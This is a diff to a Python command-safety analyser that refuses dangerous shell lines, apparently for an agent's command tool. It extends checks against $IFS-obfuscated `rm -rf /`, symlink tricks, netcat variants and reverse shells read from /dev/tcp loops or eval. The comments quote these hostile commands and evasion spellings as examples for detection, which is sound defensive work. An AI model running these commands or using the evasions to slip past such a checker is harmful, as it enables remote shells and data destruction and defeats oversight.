@@ -16,6 +16,7 @@ import fnmatch
 import posixpath
 import re
 import shlex
+from collections.abc import Iterable
 from dataclasses import dataclass, field
 
 from tree_sitter import Node
@@ -93,7 +94,20 @@ def analyse(command: str) -> Refusal | None:
     # copies of them must not pass for either.
     command = command.replace(HOME, "\ufffd").replace(UNKNOWN, "\ufffd").replace(ANYTHING, "\ufffd")
     analysis = _Analysis(Budget())
-    return analysis.run(command, Shell(), 0, {}) or analysis.firewall.verdict()
+    # A line runs as `bash -c LINE` with no further arguments: $1, $9, $@ and $* are empty.
+    verdict = analysis.run(command, Shell(positional=["bash"]), 0, {}) or analysis.firewall.verdict()
+    if verdict is None and _IFS_EXPANSION.search(command) and not _IFS_SET.search(command):
+        # The grammar splits some spellings (`rm$IFS$9-rf$IFS$9/`) into words bash does not: the
+        # line is judged again as bash reads it, with $IFS a blank and the empty parameters gone.
+        respelled = _EMPTY_PARAMETER.sub("", _IFS_EXPANSION.sub(" ", command))
+        again = _Analysis(Budget())
+        verdict = again.run(respelled, Shell(positional=["bash"]), 0, {}) or again.firewall.verdict()
+    return verdict
+
+
+_IFS_EXPANSION = re.compile(r"\$\{IFS(?::0:1|:0|%%?\S{0,8})?\}|\$IFS(?![A-Za-z0-9_])")
+_IFS_SET = re.compile(r"(?:^|[\s;&|({])(?:export\s+|local\s+|declare\s+(?:-\w+\s+)*)?IFS\+?=|\bread\b[^\n;|&]*\bIFS\b")
+_EMPTY_PARAMETER = re.compile(r"\$(?:\{[1-9@*]\}|[1-9@*])")
 
 
 # A word at a command's start that opens with `{` and no blank is a brace expansion (`{rm,-rf,/}`
@@ -588,6 +602,8 @@ class _Level:
         if not any(o in ("-s", "--symbolic") or (o.startswith("--sym") and "--symbolic".startswith(o)) for o, _ in opts):
             return shell
         operands = [a for a, _ in run.inner[rest:]]
+        if "--" in operands:  # GNU ln takes options after operands: `ln -s / -- x`
+            operands.remove("--")
         directory = next((v for o, v in opts if o in ("-t", "--target-directory")), None)
         pairs: list[tuple[str, str]] = []
         if directory is not None:
@@ -631,10 +647,22 @@ class _Level:
                 self.network_fds.add(self.parsed.text(fd))
 
     def _network_redirect(self, run: _Run | None) -> str | None:
-        """The network connection this command's standard streams are redirected to, if any."""
+        """The network connection this command's standard streams are redirected to, if any: by
+        its own redirections, or by those of a loop, group or pipeline it runs in
+        (`while read c; do $c; done < /dev/tcp/H/P`)."""
         if run is None:
             return None
-        for node in run.cmd.redirects:
+        found = self._network_in(run.cmd.redirects)
+        node, hops = run.cmd.node.parent, 0
+        while found is None and node is not None and hops < 32:
+            self.budget.spend()
+            if node.type == "redirected_statement":
+                found = self._network_in([c for c in node.named_children if c.type == "file_redirect"])
+            node, hops = node.parent, hops + 1
+        return found
+
+    def _network_in(self, redirects: Iterable[Node]) -> str | None:
+        for node in redirects:
             if node.type != "file_redirect":
                 continue
             dest = redirect_destination(node)
@@ -667,7 +695,7 @@ class _Level:
             # A shell whose commands are text the line gives it only sends its output on: not remote.
             local = bool(self._own_input(run.cmd, run.shell)) or (bool(feeders) and all(f.name in ("echo", "printf") for f in feeders))
             peers = feeders + ([] if local else self._consumers(run))
-            peer = next((r for r in peers if _network_client(r.name, [a for a, _ in r.inner])), None)
+            peer = next((r for r in peers if _network_client(r.name, [a for a, _ in r.inner]) or self._network_redirect(r) is not None), None)
             network = f"{peer.name} in the same pipeline" if peer is not None else None
         if network is None:
             return None
@@ -733,8 +761,9 @@ class _Level:
             if what:
                 return refuse("recursive-delete-root", f"a command whose name is not known before it runs would get rm's recursive-delete arguments on {what}; name the command and a narrower path")
             network = self._network_redirect(run)
-            if network is not None and network.startswith("descriptor"):
-                # `while read c <&5; do $c >&5; done` after `exec 5<>/dev/tcp/...`
+            if network is not None:
+                # `while read c <&5; do $c >&5; done` after `exec 5<>/dev/tcp/...`, or a loop
+                # reading /dev/tcp/H/P whose lines are run as commands
                 return refuse("reverse-shell", f"commands read from a network connection would run with their output sent back ({_show(network)}), a remote shell into this machine; use ssh or a proper service instead")
             return None
         if name in self.functions and hops < 4:
@@ -744,6 +773,10 @@ class _Level:
             refusal = self.analysis.nested(self.functions[name], Shell(dict(shell.variables), positional, shell.cwd, shell.links), self.depth + 1, self.functions)
             if refusal is not None:
                 return refusal
+        if name in ("eval", "source", ".") and any(UNKNOWN in w or ANYTHING in w or w in STDIN_PATHS for w in words[1:]):
+            network = self._network_redirect(run)
+            if network is not None:
+                return refuse("reverse-shell", f"{name} would run text read from a network connection ({_show(network)}), a remote shell into this machine; use ssh or a proper service instead")
         if name == "rm":
             what = _rm(words[1:], shell.cwd)
             if what:
@@ -809,8 +842,8 @@ class _Level:
             why = self._crontab(words, run, shell)
             if why:
                 return refuse("crontab-wipe", why)
-        elif name in ("nc", "ncat", "netcat", "socat"):
-            why = _network_exec(name, words)
+        elif _NC_VARIANT.sub("", name) in ("nc", "ncat", "netcat", "socat"):
+            why = _network_exec(_NC_VARIANT.sub("", name), words)
             if why:
                 return refuse("reverse-shell", why)
         elif name == "firewall-cmd":
@@ -1356,12 +1389,14 @@ def _through_links(word: str, shell: Shell) -> str:
         path = re.sub(r"/+", "/", word)
         while path.startswith("./"):
             path = path[2:]
-        for key, target in shell.links.items():
-            if path.startswith(key + "/") or (key.endswith("/") and path.startswith(key)):
-                word = target.rstrip("/") + "/" + path[len(key) + 1:]
-                break
-        else:
+        # A relative path also reaches a link made by its absolute name (`ln -s / /tmp/x; cd /tmp`).
+        paths = [path] + ([shell.cwd.rstrip("/") + "/" + path] if shell.cwd and not path.startswith(("/", HOME)) else [])
+        found = next(((p, key, target) for p in paths for key, target in shell.links.items()
+                      if p.startswith(key + "/") or (key.endswith("/") and p.startswith(key))), None)
+        if found is None:
             return word
+        p, key, target = found
+        word = target.rstrip("/") + "/" + p[len(key) + 1:]
     return word
 
 
@@ -1385,8 +1420,12 @@ def _move(args: list[str], cwd: str | None) -> str | None:
     return None
 
 
+# Debian's alternatives for netcat: nc.traditional, nc.openbsd, netcat.traditional, ...
+_NC_VARIANT = re.compile(r"\.(?:traditional|openbsd|openbsd-netcat|gnu)$")
+
+
 def _network_client(name: str, words: list[str]) -> bool:
-    if name in NETWORK_CLIENTS:
+    if _NC_VARIANT.sub("", name) in NETWORK_CLIENTS:
         return True
     return name == "openssl" and len(words) > 1 and words[1] in ("s_client", "s_server")
 
